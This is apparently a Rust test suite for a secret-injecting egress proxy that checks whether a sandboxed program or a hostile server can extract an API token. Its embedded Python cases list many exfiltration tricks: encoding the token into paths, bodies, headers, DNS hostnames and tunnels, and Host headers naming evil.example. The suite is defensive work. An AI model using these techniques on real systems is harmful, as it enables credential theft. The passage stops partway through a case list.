//! Secrets that are put in on the way out of a cell: what a hostile program in the cell, and a hostile server, do not get.

use std::collections::BTreeMap;
use std::io::{BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::GzEncoder;
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
use serde_json::json;
use tokio_rustls::rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio_rustls::rustls::{ServerConfig, ServerConnection, StreamOwned};

use crate::home::Home;

/// Put together here, so that it stands in no file.
fn value() -> String {
    ["tg", "api", "Xq7vN2", "0e5bW9aK", "Lr31"].join("_")
}

/// An authority that the home has as `ca.pem`.
struct Authority(Issuer<'static, KeyPair>);

impl Authority {
    fn new(home: &Home, file: &str) -> Self {
        let mut params = CertificateParams::new(Vec::new()).unwrap();
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let key = KeyPair::generate().unwrap();
        let encoded = STANDARD.encode(params.self_signed(&key).unwrap().der());
        let lines: Vec<_> = encoded.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
        let text = lines.join("\n");
        home.write(file, &format!("-----BEGIN CERTIFICATE-----\n{text}\n-----END CERTIFICATE-----\n"));
        Self(Issuer::new(params, key))
    }

    fn serves(&self, host: &str) -> Arc<ServerConfig> {
        let key = KeyPair::generate().unwrap();
        let certificate =
            CertificateParams::new([host.to_owned()]).unwrap().signed_by(&key, &self.0).unwrap();
        let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der()));
        let config = ServerConfig::builder().with_no_client_auth();
        Arc::new(config.with_single_cert(vec![certificate.der().clone()], key).unwrap())
    }
}

/// A server with a certificate, or one in the clear. It notes all it hears, and answers by what it is asked for.
struct Server {
    port: u16,
    heard: Arc<Mutex<Vec<u8>>>,
}

impl Server {
    fn start(tls: Option<Arc<ServerConfig>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::<Mutex<Vec<u8>>>::default();
        let noted = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let (noted, tls) = (Arc::clone(&noted), tls.clone());
                std::thread::spawn(move || match tls {
                    Some(tls) => serve(StreamOwned::new(ServerConnection::new(tls).unwrap(), stream), &noted),
                    None => serve(stream, &noted),
                });
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> String {
        String::from_utf8_lossy(&self.heard.lock().unwrap()).into_owned()
    }
}

/// Answers one request after the other.
fn serve(stream: impl Read + Write, noted: &Mutex<Vec<u8>>) {
    let mut stream = BufReader::new(stream);
    while let Some(head) = request(&mut stream, noted) {
        let answer = answer(&head);
        let out = stream.get_mut();
        if out.write_all(&answer).and_then(|()| out.flush()).is_err() || head.contains("/last") {
            return;
        }
    }
}

/// Reads one request, and notes every byte of it as it comes.
fn request(stream: &mut impl std::io::BufRead, noted: &Mutex<Vec<u8>>) -> Option<String> {
    let mut line = |exact: usize| {
        let mut bytes = Vec::new();
        if exact > 0 {
            bytes.resize(exact, 0);
            stream.read_exact(&mut bytes).ok()?;
        } else if stream.read_until(b'\n', &mut bytes).ok()? == 0 {
            return None;
        }
        noted.lock().unwrap().extend(&bytes);
        Some(String::from_utf8_lossy(&bytes).into_owned())
    };
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        head += &line(0)?;
    }
    let lower = head.to_ascii_lowercase();
    let length = lower.lines().find_map(|line| line.strip_prefix("content-length: "));
    if let Some(length) = length.and_then(|length| length.parse::<usize>().ok()).filter(|length| *length > 0)
    {
        line(length)?;
    } else if lower.contains("transfer-encoding: chunked") {
        while usize::from_str_radix(line(0)?.trim(), 16).ok()? > 0 {
            // A chunk of these tests has no line end in it.
            line(0)?;
        }
        line(0)?;
    }
    Some(head)
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

fn gzip(text: &str) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    packed.write_all(text.as_bytes()).unwrap();
    packed.finish().unwrap()
}

/// What a server answers that wants the program to have the secret.
fn answer(head: &str) -> Vec<u8> {
    let secret = &value();
    let (half, rest) = secret.split_at(13);
    let what = head.split(' ').nth(1).unwrap_or_default();
    let plain = |body: &str| whole("200 OK", "Content-Type: text/plain\r\n", body.as_bytes());
    let json = |body: &str| whole("200 OK", "Content-Type: application/json\r\n", body.as_bytes());
    let chunked = |body: &[u8], size: usize, more: &str, trailer: &str| {
        let mut all = format!("HTTP/1.1 200 OK\r\n{more}Transfer-Encoding: chunked\r\n\r\n").into_bytes();
        for chunk in body.chunks(size) {
            all.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
            all.extend(chunk);
            all.extend(b"\r\n");
        }
        all.extend(format!("0\r\n{trailer}\r\n").as_bytes());
        all
    };
    let long =
        |before: usize| format!("{}{secret}{}", "lorem ipsum\n".repeat(before), "dolor sit\n".repeat(99));
    match what.split('?').next().unwrap_or_default().trim_start_matches("/reflect/") {
        "plain" => plain(secret),
        "head" => plain(&format!("you said {head}")),
        "hex" => plain(&hex(secret)),
        "percent" => plain(&percent(secret)),
        "twice-percent" => plain(&percent(&percent(secret))),
        "base64" => plain(&STANDARD.encode(secret)),
        "shifted" => plain(&STANDARD.encode(format!("x{secret}"))),
        "twice-base64" => plain(&STANDARD.encode(STANDARD.encode(secret))),
        "basic" => plain(&STANDARD.encode(format!("bot:{secret}"))),
        "escaped" => json(&format!("{{\"a\":\"{}\"}}", escaped(secret))),
        "nested" => json(&json!({ "a": json!({ "b": [secret] }).to_string() }).to_string()),
        "key" => json(&json!({ secret: 1 }).to_string()),
        "halves" => json(&json!([half, rest]).to_string()),
        "not-json" => json(&format!("{{\"a\": {secret}")),
        "entities" => plain(&secret.bytes().map(|byte| format!("&#{byte};")).collect::<String>()),
        "reversed" => plain(&secret.chars().rev().collect::<String>()),
        "spaced" => plain(&secret.chars().flat_map(|c| [c, ' ']).collect::<String>()),
        "upper" => plain(&secret.to_uppercase()),
        "header" => whole("200 OK", &format!("X-Echo: {secret}\r\nX-Hex: {}\r\n", hex(secret)), b"x"),
        "header-name" => whole("200 OK", &format!("{secret}: x\r\n"), b"x"),
        "location" => {
            whole("302 Found", &format!("Location: https://other.host.internal/?k={secret}\r\n"), b"")
        }
        "cookie" => whole("200 OK", &format!("Set-Cookie: session={secret}\r\n"), b"x"),
        "challenge" => {
            whole("401 Unauthorized", &format!("WWW-Authenticate: Basic realm=\"{secret}\"\r\n"), b"no")
        }
        "reason" => whole(&format!("200 {secret}"), "", b"x"),
        "error" => whole("500 Internal Server Error", "", secret.as_bytes()),
        "not-modified" => format!("HTTP/1.1 304 Not Modified\r\nETag: \"{secret}\"\r\n\r\n").into_bytes(),
        "hints" => [format!("HTTP/1.1 103 Early Hints\r\nLink: <{secret}>\r\n\r\n").into_bytes(), plain("x")]
            .concat(),
        "bytes" => chunked(secret.as_bytes(), 1, "", ""),
        "chunks" => chunked(secret.as_bytes(), 7, "Content-Type: application/json\r\n", ""),
        "trailer" => chunked(b"x", 1, "Trailer: X-Echo\r\n", &format!("X-Echo: {secret}\r\n")),
        "events" => chunked(
            format!("data: {secret}\n\nid: {secret}\ndata: {}\ndata: {}\n\n", half, rest).as_bytes(),
            5,
            "Content-Type: text/event-stream\r\n",
            "",
        ),
        "split-events" => chunked(
            format!("data: {}\n\ndata: {}\n\n", half, rest).as_bytes(),
            64,
            "Content-Type: text/event-stream\r\n",
            "",
        ),
        "packed" => whole("200 OK", "Content-Encoding: gzip\r\n", &gzip(secret)),
        "stacked" => whole("200 OK", "Content-Encoding: identity, gzip\r\n", &gzip(secret)),
        "silently-packed" => whole("200 OK", "Content-Type: application/gzip\r\n", &gzip(&long(1))),
        "edge" => plain(&long((256 << 10) / 12)),
        "before-edge" => plain(&long((256 << 10) / 12 - 1)),
        "long" => chunked(long(100_000).as_bytes(), 8191, "", ""),
        "switch" => {
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: raw\r\nConnection: upgrade\r\n\r\n".to_vec()
        }
        "no-end" => format!("HTTP/1.0 200 OK\r\n\r\n{secret}").into_bytes(),
        _ => plain("hello\n"),
    }
}

fn whole(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

/// Three servers, and a secret for one of them.
struct World {
    home: Home,
    api: Server,
    other: Server,
    clear: Server,
}

/// What the scripts of these tests begin with.
const BEGIN: &str = r#"
import base64, gzip, os, socket, ssl, sys, time, urllib.parse
P = os.environ["API_TOKEN"]
API, OTHER, CLEAR = (int(os.environ[name]) for name in ("API", "OTHER", "CLEAR"))
HOST = f"Host: api.host.internal:{API}\r\n"
AUTH = f"Authorization: Bearer {P}\r\n"

def tcp(host="api.host.internal", port=API):
    return socket.create_connection((host, port), 20)

def tunnel(target):
    s = socket.create_connection(("198.18.0.1", 3128), 20)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        more = s.recv(1)
        if not more: break
        head += more
    if b" 200 " not in head: raise OSError(head.split(b"\r\n")[0].decode())
    return s

def tls(s, name="api.host.internal", alpn=None):
    context = ssl.create_default_context()
    context.minimum_version = ssl.TLSVersion.TLSv1_2
    if name != "api.host.internal": context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn: context.set_alpn_protocols(alpn)
    return context.wrap_socket(s, server_hostname=name)

def everything(s, whole=False):
    said = b""
    s.settimeout(20)
    try:
        while True:
            more = s.recv(65536)
            if not more: break
            said += more
            if said.endswith(b"0\r\n\r\n") and not whole: break
    except OSError: pass
    return said

def say(s, *parts, whole=False):
    for part in parts:
        if part is None: time.sleep(0.05)
        else:
            try: s.sendall(part if isinstance(part, bytes) else part.encode())
            except OSError: break
    return everything(s, whole)

def ask(*parts, name="api.host.internal", sock=None, alpn=None, whole=False):
    return say(tls(sock or tcp(), name, alpn), *parts, whole=whole)

def status(said):
    first = said.split(b"\r\n")[0].split(b" ")
    return first[1].decode() if len(first) > 1 and said.startswith(b"HTTP/1.1 ") else "gone"

def try_all(cases):
    for name, want, case in cases:
        try: got = case()
        except Exception as error: got = b"error: " + type(error).__name__.encode()
        sys.stdout.write(f"{name}\t{want}\t{status(got)}\n")
        sys.stdout.flush()
"#;

impl World {
    fn new(name: &str) -> Self {
        let home = Home::new(name);
        let authority = Authority::new(&home, "ca.pem");
        let (api, other) = (
            Server::start(Some(authority.serves("api.host.internal"))),
            Server::start(Some(authority.serves("other.host.internal"))),
        );
        let clear = Server::start(None);
        let world = Self { home, api, other, clear };
        world.keep(&["--placeholder", "env:API_TOKEN=ghp_", "--tool", "exec/*", "--tool", "shell/*"]);
        world
    }

    fn host(&self) -> String {
        format!("api.host.internal:{}", self.api.port)
    }

    fn keep(&self, uses: &[&str]) {
        self.home.done(&["person", "list"]);
        let host = self.host();
        let slots = ["header:Authorization", "query:key", "basic:bot", "header:X-Key: k={}"];
        let slots = slots.iter().flat_map(|slot| ["--slot", slot]);
        let all: Vec<&str> = ["secret", "add", "api", "--host", &host]
            .into_iter()
            .chain(slots)
            .chain(uses.iter().copied())
            .collect();
        let output = self.home.fed(&all, value().as_bytes());
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }

    /// Runs a script in a cell. Returns what it said, and what was said of it.
    fn run(&self, more: &[&str], program: &[&str]) -> (String, String) {
        let ports = [("API", self.api.port), ("OTHER", self.other.port), ("CLEAR", self.clear.port)];
        let ports = ports.map(|(name, port)| format!("{name}={port}"));
        let ca = self.home.path().join("ca.pem").display().to_string();
        let nets = [
            format!("api.host.internal:{},private", self.api.port),
            format!("api.host.internal:{},private", self.clear.port),
            format!("other.host.internal:{},private", self.other.port),
            format!("clear.host.internal:{},private", self.clear.port),
            format!("*.wild.host.internal:{},private", self.clear.port),
        ];
        let mut all = vec!["exec", "--secret", "api", "--ca-file", &ca];
        if more.is_empty() {
            all.extend(nets.iter().flat_map(|net| ["--net", net]));
        }
        all.extend(ports.iter().flat_map(|port| ["--env", port]));
        all.extend(more);
        all.push("--");
        all.extend(program);
        let output = self.home.run(&all);
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        (text(&output.stdout), text(&output.stderr))
    }

    fn python(&self, more: &[&str], script: &str) -> (String, String) {
        self.run(more, &["/usr/bin/python3", "-c", &format!("{BEGIN}\n{script}")])
    }

    /// Tries all cases of a script, and says which came out otherwise than they have to.
    fn cases(&self, more: &[&str], script: &str) -> (BTreeMap<String, String>, String) {
        let (said, why) = self.python(more, script);
        let mut outcomes = BTreeMap::new();
        let mut wrong = Vec::new();
        for line in said.lines() {
            let [name, want, got] = line.split('\t').collect::<Vec<_>>()[..] else { panic!("{said}{why}") };
            if !want.split('|').any(|want| want == got) {
                wrong.push(line.to_owned());
            }
            outcomes.insert(name.to_owned(), got.to_owned());
        }
        assert!(wrong.is_empty(), "{wrong:#?}\n{why}");
        assert!(!said.contains(&value()) && !why.contains(&value()));
        (outcomes, why)
    }
}

#[test]
fn programs_use_what_they_do_not_have() {
    let world = World::new("inside-use");
    let url = format!("https://{}/reflect/head", world.host());
    let script = format!(
        "echo \"$API_TOKEN\"; curl -sS -H \"Authorization: Bearer $API_TOKEN\" {url}; \
         curl -sS -u \"bot:$API_TOKEN\" {url}; curl -sS \"{url}?key=$API_TOKEN&x=1\"; \
         curl -sS -H \"Authorization: Bearer mine\" -b a=b {url}; curl -sS -d \"a body\" {url}; \
         env | grep -c /run/secrets/toolgate-ca.pem"
    );
    let (said, why) = world.run(&[], &["/bin/sh", "-c", &script]);
    assert_eq!(why, "", "{said}");
    assert!(said.starts_with("ghp_") && said.ends_with("\n11\n"), "{said}");
    assert_eq!(said.matches("you said").count(), 5, "{said}");
    assert!(!said.contains(&value()) && said.contains("⟦secret:api#"), "{said}");
    let heard = world.api.heard();
    assert!(heard.contains(&format!("authorization: Bearer {}\r\n", value())), "{heard}");
    let basic = STANDARD.encode(format!("bot:{}", value()));
    assert!(heard.contains(&format!("authorization: Basic {basic}\r\n")), "{heard}");
    assert!(heard.contains(&format!("GET /reflect/head?x=1&key={} HTTP/1.1", value())), "{heard}");
    assert!(heard.contains("a body"), "{heard}");
    assert!(!heard.contains("mine") && !heard.contains("a=b"), "the program's own: {heard}");
    assert!(!heard.contains("ghp_"), "{heard}");
}

/// What is put in, where it belongs, and what stops everything.
const PLACES: &str = r#"
def get(path="/", more="", host=HOST, method="GET"):
    return f"{method} {path} HTTP/1.1\r\n{host}{more}\r\n"
def post(body, more=""):
    if isinstance(body, str): body = body.encode()
    return f"POST / HTTP/1.1\r\n{HOST}{more}Content-Length: {len(body)}\r\n\r\n".encode() + body
def chunked(*chunks):
    head = f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n".encode()
    body = b"".join(b"%x\r\n%s\r\n" % (len(c), c.encode()) for c in chunks)
    return head + body + b"0\r\n\r\n"
def basic(text): return "Authorization: Basic " + base64.b64encode(text.encode()).decode() + "\r\n"
def percent(text): return "".join("%%%02x" % b for b in text.encode())
def twice(first, second):
    s = tls(tcp()); one = say(s, first)
    if status(one) != "200": return one
    return say(s, second)
HALF = len(P) // 2
cases = [
    ("bearer", "200", lambda: ask(get("/ok-1", AUTH))),
    ("bearer in lower case", "200", lambda: ask(get("/ok-2", f"authorization: bearer {P}\r\n"))),
    ("basic", "200", lambda: ask(get("/ok-3", basic(f"bot:{P}")))),
    ("query", "200", lambda: ask(get(f"/ok-4?a=b&key={P}&c=d"))),
    ("another header", "200", lambda: ask(get("/ok-5", f"X-Key: k={P}\r\n"))),
    ("two places", "200", lambda: ask(get(f"/ok-6?key={P}", AUTH))),
    ("split over records", "200", lambda: ask("GET /ok-7 HTTP/1.1\r\n", None, HOST, None, AUTH[:30], None, AUTH[30:], "\r\n")),
    ("one after the other", "200", lambda: twice(get("/ok-8", AUTH), get("/ok-9", AUTH))),
    ("through the proxy", "200", lambda: ask(get("/ok-10", AUTH), sock=tunnel(f"api.host.internal:{API}"))),
    ("without", "200", lambda: ask(get("/without"))),
    ("of its own", "200", lambda: ask(get("/own", "Authorization: Bearer own\r\nX-Api-Key: own\r\nCookie: own\r\nPrivate-Token: own\r\nX-Amz-Security-Token: own\r\nX-Key: own\r\n"))),
    ("of its own in the query", "200", lambda: ask(get("/own?key=own&key=own"))),
    ("a body", "200", lambda: ask(post("hello", AUTH))),
    ("a body in chunks", "200", lambda: ask(chunked("hello", "world"))),
    ("a body that waits", "200", lambda: say(tls(tcp()), f"POST /waits HTTP/1.1\r\n{HOST}Expect: 100-continue\r\nContent-Length: 5\r\n\r\n", None, "hello").split(b"100 Continue\r\n\r\n")[-1]),
    ("host in capitals", "200", lambda: ask(get("/caps", host=f"Host: API.Host.Internal:{API}\r\n"))),
    ("host without a port", "200", lambda: ask(get("/portless", host="Host: api.host.internal\r\n"))),
    ("SNI in capitals", "200", lambda: ask(get("/sni"), name="API.host.internal")),
    # In another place of the same request.
    ("path", "403", lambda: ask(get(f"/{P}"))),
    ("path in percent", "403", lambda: ask(get("/" + percent(P)))),
    ("path in base64", "403", lambda: ask(get("/" + base64.urlsafe_b64encode(P.encode()).decode().rstrip("=")))),
    ("another key", "403", lambda: ask(get(f"/?token={P}"))),
    ("key in another case", "403", lambda: ask(get(f"/?KEY={P}"))),
    ("key encoded", "403", lambda: ask(get(f"/?%6bey={P}"))),
    ("the key twice", "403", lambda: ask(get(f"/?key={P}&key={P}"))),
    ("the key with another one", "403", lambda: ask(get(f"/?key=x&key={P}"))),
    ("the key in percent", "403", lambda: ask(get("/?key=" + percent(P)))),
    ("the key with more", "403", lambda: ask(get(f"/?key={P}x"))),
    ("the key in brackets", "403", lambda: ask(get(f"/?key[]={P}"))),
    ("the key behind a semicolon", "403", lambda: ask(get(f"/?a=b;key={P}"))),
    ("as the key", "403", lambda: ask(get(f"/?{P}=key"))),
    ("another header of its own", "403", lambda: ask(get("/", f"X-Other: {P}\r\n"))),
    ("X-Key without its form", "403", lambda: ask(get("/", f"X-Key: {P}\r\n"))),
    ("name of a header", "403", lambda: ask(get("/", f"{P}: x\r\n"))),
    ("cookie", "403", lambda: ask(get("/", f"Cookie: a={P}\r\n"))),
    ("user agent in base64", "403", lambda: ask(get("/", "User-Agent: " + base64.b64encode(P.encode()).decode() + "\r\n"))),
    ("referer in hexadecimal", "403", lambda: ask(get("/", f"Referer: https://x/{P.encode().hex()}\r\n"))),
    ("another scheme", "403", lambda: ask(get("/", f"Authorization: token {P}\r\n"))),
    ("bearer and more", "403", lambda: ask(get("/", f"Authorization: Bearer {P} x\r\n"))),
    ("bearer twice", "403", lambda: ask(get("/", AUTH + AUTH))),
    ("bearer and another", "403", lambda: ask(get("/", AUTH + "Authorization: Bearer x\r\n"))),
    ("bearer in a list", "403", lambda: ask(get("/", f"Authorization: Bearer {P}, Bearer x\r\n"))),
    ("basic for another user", "403", lambda: ask(get("/", basic(f"root:{P}")))),
    ("basic as the user", "403", lambda: ask(get("/", basic(f"{P}:bot")))),
    ("basic with more", "403", lambda: ask(get("/", basic(f"bot:{P}x")))),
    ("basic in basic", "403", lambda: ask(get("/", basic("bot:" + base64.b64encode(P.encode()).decode())))),
    ("for a proxy", "200", lambda: ask(get("/proxy-auth", f"Proxy-Authorization: Bearer {P}\r\n"))),
    ("as the method", "403", lambda: ask(get(method=P))),
    ("in place and in the path", "403", lambda: ask(get(f"/{P}", AUTH))),
    ("in place and in the body", "403", lambda: ask(post(P, AUTH))),
    ("body", "403", lambda: ask(post(P))),
    ("body as JSON", "403", lambda: ask(post('{"token": "%s"}' % P))),
    ("body escaped", "403", lambda: ask(post('{"a":"' + "".join("\\u%04x" % b for b in P.encode()) + '"}'))),
    ("body in base64", "403", lambda: ask(post(base64.b64encode(b"x" + P.encode())))),
    ("body in hexadecimal", "403", lambda: ask(post(P.encode().hex()))),
    ("body reversed", "403", lambda: ask(post(P[::-1]))),
    ("body with spaces", "403", lambda: ask(post(" ".join(P)))),
    ("body in capitals", "403", lambda: ask(post(P.upper()))),
    ("body packed", "403", lambda: ask(post(gzip.compress(P.encode())))),
    ("body in UTF-16", "403", lambda: ask(post(P.encode("utf-16-le")))),
    ("body split over records", "403", lambda: ask(f"POST / HTTP/1.1\r\n{HOST}Content-Length: {len(P)}\r\n\r\n", P[:HALF], None, P[HALF:])),
    ("body split over chunks", "403", lambda: ask(chunked(P[:HALF], P[HALF:]))),
    ("body byte by byte", "403", lambda: ask(chunked(*P))),
    ("body at the end of much", "403", lambda: ask(post("x" * 300_000 + " " + P))),
    ("in the second request", "403", lambda: twice(get("/first", AUTH), get(f"/{P}"))),
    ("pipelined", "403", lambda: ask(get("/one", "") + get(f"/{P}"), whole=True).split(b"0\r\n\r\n")[-1]),
    ("in a trailer", "400", lambda: ask(f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nX: {P}\r\n\r\n")),
    ("in the line of a chunk", "400", lambda: ask(f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n1;x={P}\r\nx\r\n0\r\n\r\n")),
    # For another host, on the connection to its own.
    ("another SNI", "gone", lambda: ask(get(), name="other.host.internal")),
    ("no SNI", "gone", lambda: ask(get(), name=None)),
    ("an SNI below", "gone", lambda: ask(get(), name="x.api.host.internal")),
    ("another host", "421", lambda: ask(get(more=AUTH, host=f"Host: other.host.internal:{API}\r\n"))),
    ("another port", "421", lambda: ask(get(more=AUTH, host="Host: api.host.internal:1\r\n"))),
    ("a host below", "421", lambda: ask(get(more=AUTH, host=f"Host: x.api.host.internal:{API}\r\n"))),
    ("a host behind", "421", lambda: ask(get(more=AUTH, host=f"Host: api.host.internal.evil.example:{API}\r\n"))),
    ("a host with a user", "421|400", lambda: ask(get(more=AUTH, host=f"Host: evil.example@api.host.internal:{API}\r\n"))),
    ("a host with a zero", "421|400", lambda: ask(get(more=AUTH, host=f"Host: api.host.internal\0.evil.example:{API}\r\n"))),
    ("a host in percent", "421|400", lambda: ask(get(more=AUTH, host=f"Host: api%2ehost.internal:{API}\r\n"))),
    ("two hosts", "400", lambda: ask(get(more=AUTH, host=HOST + HOST))),
    ("no host", "400", lambda: ask(get(more=AUTH, host=""))),
    ("two hosts in one", "421|400", lambda: ask(get(more=AUTH, host=HOST.replace("\r\n", ", evil.example\r\n")))),
    ("its whole address", "400", lambda: ask(get(f"https://api.host.internal:{API}/", AUTH))),
    ("another's whole address", "400", lambda: ask(get(f"https://other.host.internal:{OTHER}/", AUTH))),
    ("a tunnel inside", "400", lambda: ask(get(f"other.host.internal:{OTHER}", AUTH, method="CONNECT"))),
    ("TRACE", "400", lambda: ask(get("/", AUTH, method="TRACE"))),
    ("another host in the second request", "421", lambda: twice(get("/first", AUTH), get("/", AUTH, host=f"Host: other.host.internal:{API}\r\n"))),
    ("a WebSocket", "501", lambda: ask(get("/", AUTH + "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"))),
    ("h2c", "501", lambda: ask(get("/", AUTH + "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n"))),
    ("HTTP/2 only", "gone", lambda: ask(get(more=AUTH), alpn=["h2"])),
    ("HTTP/2 without asking", "400", lambda: ask("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
    # To another host, or without TLS.
    ("in the clear", "gone", lambda: say(tcp(), get(more=AUTH))),
    ("in the clear, by the proxy", "403", lambda: say(socket.create_connection(("198.18.0.1", 3128)), f"GET http://api.host.internal:{API}/ HTTP/1.1\r\n{HOST}{AUTH}\r\n")),
    ("another port in the clear", "gone", lambda: say(tcp(port=CLEAR), f"GET / HTTP/1.1\r\nHost: api.host.internal:{CLEAR}\r\n{AUTH}\r\n")),
    ("another host in the clear", "gone", lambda: say(tcp("clear.host.internal", CLEAR), f"GET /{P} HTTP/1.1\r\nHost: clear.host.internal:{CLEAR}\r\n\r\n")),
    ("another host, split", "gone", lambda: say(tcp("clear.host.internal", CLEAR), "GET /" + P[:HALF], None, P[HALF:] + f" HTTP/1.1\r\nHost: clear.host.internal:{CLEAR}\r\n\r\n")),
    ("another host, byte by byte", "gone", lambda: say(tcp("clear.host.internal", CLEAR), *[c for c in f"GET /{P} HTTP/1.1\r\nHost: x\r\n\r\n"])),
    ("another host, encoded", "gone", lambda: say(tcp("clear.host.internal", CLEAR), f"GET / HTTP/1.1\r\nHost: clear.host.internal:{CLEAR}\r\n{basic('bot:' + P)}\r\n")),
    ("another host by the proxy", "403|gone", lambda: say(socket.create_connection(("198.18.0.1", 3128)), f"GET http://clear.host.internal:{CLEAR}/{P} HTTP/1.1\r\nHost: clear.host.internal:{CLEAR}\r\n\r\n")),
    ("no HTTP at all", "gone", lambda: say(tcp("clear.host.internal", CLEAR), P + "\n")),
    ("another host inside TLS", "200", lambda: ask(f"GET /elsewhere HTTP/1.1\r\nHost: other.host.internal:{OTHER}\r\n{AUTH}\r\n", sock=tcp("other.host.internal", OTHER), name="other.host.internal")),
    ("the name of a host", "gone", lambda: tcp(P[4:] + ".wild.host.internal", CLEAR) and b"HTTP/1.1 200 "),
    ("the name of a host in hexadecimal", "gone", lambda: tcp(P.encode().hex()[:60] + "." + P.encode().hex()[60:] + ".wild.host.internal", CLEAR) and b"HTTP/1.1 200 "),
    ("a tunnel to it", "gone", lambda: tunnel(f"{P[4:]}.wild.host.internal:{CLEAR}") and b"HTTP/1.1 200 "),
    ("a tunnel, and another SNI", "gone", lambda: ask(get(more=AUTH), sock=tunnel(f"api.host.internal:{API}"), name="other.host.internal")),
    ("a host of no rule", "gone", lambda: tcp("evil.host.internal", CLEAR) and b"HTTP/1.1 200 "),
    ("still there", "200", lambda: ask(get("/still", AUTH))),
]
try_all(cases)
"#;

#[test]
fn what_stands_for_a_secret_is_good_for_one_place_of_one_host() {
    let world = World::new("inside-places");
    let (outcomes, why) = world.cases(&[], PLACES);
    assert!(outcomes.len() >= 100, "{}", outcomes.len());
    let heard = world.api.heard();
    // The secret itself: where it belongs, and nowhere else.
    for path in ["/ok-1", "/ok-2", "/ok-7", "/ok-8", "/ok-9", "/ok-10", "/still"] {
        let request = heard.split("GET ").find(|request| request.starts_with(&format!("{path} "))).unwrap();
        assert_eq!(request.matches(&value()).count(), 1, "{request}");
    }
    let all =
        heard.matches(&value()).count() + heard.matches(&STANDARD.encode(format!("bot:{}", value()))).count();
    let want = heard.matches("authorization: ").count()
        + heard.matches("x-key: ").count()
        + heard.matches("key=tg").count();
    assert_eq!(all, want, "{heard}");
    for path in ["/without", "/own", "/proxy-auth", "/caps", "/sni"] {
        let request = heard.split("GET ").find(|request| request.starts_with(path)).unwrap();
        let request = request.split("\r\n\r\n").next().unwrap().to_ascii_lowercase();
        assert!(
            !request.contains("authorization") && !request.contains("=own") && !request.contains(": own"),
            "{request}"
        );
    }
    // What stands for it: nobody.
    for heard in [&heard, &world.clear.heard()] {
        // The beginning of one may go out before its end is there.
        let whole = |rest: &str| rest.bytes().take_while(u8::is_ascii_alphanumeric).count() >= 36;
        assert!(!heard.split("ghp_").skip(1).any(whole), "{heard}");
    }
    for server in [&world.other, &world.clear] {
        assert!(!server.heard().contains(&value()), "{}", server.heard());
    }
    assert!(
        world.other.heard().contains("Bearer ghp_"),
        "what is inside TLS to others, nobody reads, and it is worth nothing"
    );
    // And it is told.
    for place in [
        format!("api.host.internal:{} (ALARM", world.api.port),
        format!("clear.host.internal:{} (ALARM", world.clear.port),
    ] {
        assert!(why.contains(&place), "{place}: {why}");
    }
    assert!(why.contains("what is not the name of a host (ALARM"), "{why}");
}

/// The parts of a request besides its headers and its query.
const PARTS: &str = r#"
def get(path): return f"GET {path} HTTP/1.1\r\n{HOST}\r\n"
def post(path, body, more="Content-Type: application/json; charset=utf-8\r\n"):
    return f"POST {path} HTTP/1.1\r\n{HOST}{more}Content-Length: {len(body)}\r\n\r\n{body}"
def chunked(body):
    return f"POST /chunked HTTP/1.1\r\n{HOST}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n{len(body):x}\r\n{body}\r\n0\r\n\r\n"
BODY = '{"auth":{"token":"%s"},"n":1.50}'
escaped = "".join("\\u%04x" % b for b in P.encode())
cases = [
    ("a segment", "200", lambda: ask(get(f"/bot{P}/sendMessage?a=b"))),
    ("the only segment", "200", lambda: ask(get(f"/bot{P}"))),
    ("no segment at all", "200", lambda: ask(get("/plain/botx"))),
    ("the name of the secret", "200", lambda: ask(get("/bot{api}/named"))),
    ("a member", "200", lambda: ask(post("/json-1", BODY % P))),
    ("a member that is escaped", "200", lambda: ask(post("/json-2", BODY % escaped))),
    ("a member, waited for", "200", lambda: ask(post("/json-3", BODY % P, "Content-Type: application/json\r\nExpect: 100-continue\r\n")).replace(b"HTTP/1.1 100 Continue\r\n\r\n", b"")),
    ("a member, in two parts", "200", lambda: ask(post("/json-4", BODY % P)[:-20], None, post("/json-4", BODY % P)[-20:])),
    ("the program's own", "200", lambda: ask(post("/json-own", BODY % "own-token"))),
    ("no such member", "200", lambda: ask(post("/json-none", '{"a":1}'))),
